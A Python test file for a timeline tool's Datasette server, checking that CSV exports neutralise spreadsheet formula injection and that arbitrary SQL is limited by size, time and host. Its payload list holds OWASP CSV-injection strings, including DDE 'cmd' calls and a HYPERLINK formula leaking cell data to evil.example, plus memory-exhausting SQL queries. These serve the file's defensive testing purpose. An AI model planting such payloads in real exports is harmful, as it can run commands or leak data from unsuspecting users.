"""Issue #16, classes 10 and 11: formulas in CSV exports, and arbitrary SQL in `timeline serve`.

Reproductions kept here: Datasette's CSV export of events, sources and
documents gave cells beginning with ``=``, ``+``, ``-``, ``@`` (nine payloads
of the probe); ``select length(randomblob(1000000000))`` ran past the 1 s
limit with a gigabyte of memory, and arbitrary SQL was on whatever the host.
"""

from __future__ import annotations

import csv
import io
import json
import resource
import shutil
import sqlite3
from collections.abc import Iterator
from pathlib import Path
from typing import Any
from urllib.parse import quote

import pytest
from click.testing import CliRunner
from hypothesis import given
from hypothesis import strategies as st

from timeline.build import build
from timeline.cli import main
from timeline.csvsafe import CsvStreamNeutralizer, is_formula, safe_cell, safe_row
from timeline.serve import datasette_args, is_loopback, make_datasette
from timeline.store import add_summaries

DATA = Path(__file__).resolve().parent.parent / "data" / "datasette"

#: The probe's payloads: formulas as spreadsheets read them (OWASP "CSV Injection").
PAYLOADS = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C notepad'!'A1'",
]


@pytest.mark.parametrize("payload", PAYLOADS)
def test_every_payload_is_neutralized(payload: str) -> None:
    assert is_formula(payload)
    assert safe_cell(payload) == "'" + payload
    assert not is_formula(safe_cell(payload))


@pytest.mark.parametrize("value", ["-12.5", "+3", "-1.5e3", "42", "", "Talks in Astana", "a=b"])
def test_numbers_and_text_stay_as_they_are(value: str) -> None:
    assert safe_cell(value) == value


def test_safe_row_keeps_other_values() -> None:
    assert safe_row([None, 3, -2.5, "=1", "x"]) == [None, 3, -2.5, "'=1", "x"]


def _csv_text(rows: list[list[str]]) -> bytes:
    buffer = io.StringIO(newline="")
    csv.writer(buffer).writerows(rows)
    return buffer.getvalue().encode("utf-8")


cells = st.text(alphabet=st.sampled_from(list('=+-@\t\r\n",ab 1.é')), max_size=8)


@given(
    rows=st.lists(st.lists(cells, min_size=1, max_size=4), min_size=1, max_size=6),
    cuts=st.lists(st.integers(min_value=0, max_value=400), max_size=6),
)
def test_stream_neutralizer_matches_row_by_row_rewriting(
    rows: list[list[str]], cuts: list[int]
) -> None:
    data = _csv_text(rows)
    neutralizer = CsvStreamNeutralizer()
    out = b""
    last = 0
    for cut in sorted({min(c, len(data)) for c in cuts}):  # chunks cut anywhere, mid-character too
        out += neutralizer.feed(data[last:cut])
        last = cut
    out += neutralizer.feed(data[last:]) + neutralizer.close()
    parsed = list(csv.reader(io.StringIO(out.decode("utf-8"), newline="")))
    expected = list(csv.reader(io.StringIO(data.decode("utf-8"), newline="")))
    assert parsed == [safe_row(r) for r in expected]
    assert not any(is_formula(c) for r in parsed for c in r)


def test_rows_without_formulas_pass_byte_for_byte() -> None:
    data = _csv_text([["id", "title"], ["a", "Talks, in Astana"], ["b", '"quoted"\nline']])
    neutralizer = CsvStreamNeutralizer()
    assert neutralizer.feed(data[:7]) + neutralizer.feed(data[7:]) + neutralizer.close() == data


# --- Datasette -------------------------------------------------------------------------


@pytest.fixture(scope="module")
def hostile_db(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The fixture events built into a database, then titles, quotes and names made formulas."""
    work = tmp_path_factory.mktemp("hostile-serve")
    db = work / "timeline.db"
    build(DATA / "events", DATA / "corpus", db, None)
    with sqlite3.connect(db) as conn:
        ids = [r[0] for r in conn.execute("select id from events order by id")]
        for i, event_id in enumerate(ids):
            payload = PAYLOADS[i % len(PAYLOADS)]
            conn.execute(
                "update events set title = ?, summary = ? where id = ?",
                [payload, payload, event_id],
            )
        conn.execute("update sources set quote = ?", [PAYLOADS[4]])
        conn.execute("update documents set title = ?, outlet = ?", [PAYLOADS[3], PAYLOADS[2]])
    conn = sqlite3.connect(db)
    add_summaries(conn)  # events_by_country and the facet counts, from the tampered rows
    conn.close()
    return db


@pytest.fixture
def datasette(hostile_db: Path) -> Iterator[Any]:
    yield make_datasette(hostile_db, settings={"sql_time_limit_ms": 200})


def _cells(text: str) -> list[str]:
    return [c for row in csv.reader(io.StringIO(text, newline="")) for c in row]


@pytest.mark.asyncio
@pytest.mark.parametrize(
    "path",
    [
        "/timeline/events.csv",
        "/timeline/events.csv?_stream=1",
        "/timeline/events.csv?_dl=1&_size=2",
        "/timeline/sources.csv",
        "/timeline/documents.csv?_stream=on",
        "/timeline/events/2022-03-29-visit-tr-uz.csv",
        "/timeline/events.csv?_labels=on",
        "/timeline/upcoming.csv",
        "/timeline/events_by_country.csv",
        "/timeline/year_timeline.csv?year=2024",
        "/timeline.csv?sql=" + quote("select '=1+1' as a, '@x' as b, -5 as c"),
    ],
)
async def test_datasette_csv_exports_hold_no_formula(datasette: Any, path: str) -> None:
    response = await datasette.client.get(path)
    assert response.status_code == 200, response.text
    cells = _cells(response.text)
    assert len(cells) > 3
    assert [c for c in cells if is_formula(c)] == []
    assert any(c.startswith("'") and is_formula(c[1:]) for c in cells)


@pytest.mark.asyncio
async def test_datasette_json_is_left_alone(datasette: Any) -> None:
    response = await datasette.client.get("/timeline/events.json?_shape=array")
    titles = {row["title"] for row in response.json()}
    assert set(PAYLOADS) & titles


@pytest.mark.asyncio
async def test_negative_numbers_keep_their_sign(datasette: Any) -> None:
    response = await datasette.client.get(
        "/timeline.csv?sql=" + quote("select -5 as n, -12.5 as x, '-3' as s")
    )
    assert response.text.splitlines()[1] == "-5,-12.5,-3"


@pytest.mark.asyncio
async def test_huge_value_fails_at_once(datasette: Any) -> None:
    """A gigabyte blob is refused when asked for, not after allocating it."""
    before = resource.getrusage(resource.RUSAGE_SELF).ru_maxrss
    for _ in range(3):
        sql = quote("select length(randomblob(1000000000)) as n")
        response = await datasette.client.get(f"/timeline.json?sql={sql}&_shape=array")
        assert response.status_code == 400
        assert "too big" in response.text
    grown_mb = (resource.getrusage(resource.RUSAGE_SELF).ru_maxrss - before) / 1024
    assert grown_mb < 200
    sql = quote("select length(zeroblob(1000000000)) as n")
    response = await datasette.client.get(f"/timeline.json?sql={sql}")
    assert response.status_code == 400 and "too big" in response.text


@pytest.mark.asyncio
async def test_long_query_is_interrupted(datasette: Any) -> None:
    sql = quote(
        "with recursive r(x) as (select 1 union all select x + 1 from r) select count(*) from r"
    )
    response = await datasette.client.get(f"/timeline.json?sql={sql}")
    assert response.status_code == 400
    assert "took too long" in response.text
    response = await datasette.client.get("/timeline/events.json?_shape=array&_size=1")
    assert response.status_code == 200


@pytest.mark.parametrize(
    ("host", "loopback"),
    [
        ("127.0.0.1", True),
        ("127.1.2.3", True),
        ("localhost", True),
        ("::1", True),
        ("[::1]", True),
        ("0.0.0.0", False),
        ("::", False),
        ("192.168.1.5", False),
        ("example.org", False),
    ],
)
def test_loopback(host: str, loopback: bool) -> None:
    assert is_loopback(host) is loopback
    args = datasette_args("t.db", "m.yaml", host=host)
    assert ("default_allow_sql" in args) is not loopback
    assert "default_allow_sql" not in datasette_args("t.db", "m.yaml", host=host, allow_sql=True)


def _get(db: Path, path: str, *options: str) -> Any:
    return CliRunner().invoke(main, ["serve", "--db", str(db), *options, "--get", path])


@pytest.fixture
def db_copy(hostile_db: Path, tmp_path: Path) -> Path:
    shutil.copy(hostile_db, tmp_path / "timeline.db")
    return tmp_path / "timeline.db"


def test_sql_is_off_on_a_public_host_unless_allowed(db_copy: Path) -> None:
    sql = "/timeline.json?sql=" + quote("select count(*) as n from events")
    assert _get(db_copy, sql).exit_code == 0
    refused = _get(db_copy, sql, "--host", "0.0.0.0")
    assert refused.exit_code == 1
    assert "Forbidden" in refused.output and "execute-sql" in refused.output
    assert '"n"' not in refused.output
    canned = _get(db_copy, "/timeline/upcoming.json", "--host", "0.0.0.0")
    assert canned.exit_code == 0, canned.output
    assert "rows" in json.loads(canned.output)
    table = _get(db_copy, "/timeline/events.json?_size=1", "--host", "0.0.0.0")
    assert table.exit_code == 0
    allowed = _get(db_copy, sql, "--host", "0.0.0.0", "--allow-sql")
    assert allowed.exit_code == 0 and '"n"' in allowed.output


def test_the_cli_says_when_sql_is_off(db_copy: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from datasette import cli as datasette_cli

    def no_server(ctx: Any) -> None:
        return None

    monkeypatch.setattr(datasette_cli.serve, "invoke", no_server)
    out = CliRunner().invoke(main, ["serve", "--db", str(db_copy), "--host", "0.0.0.0"]).output
    assert "Arbitrary SQL is off on 0.0.0.0" in out and "--allow-sql" in out
    out = CliRunner().invoke(main, ["serve", "--db", str(db_copy)]).output
    assert "Arbitrary SQL is off" not in out
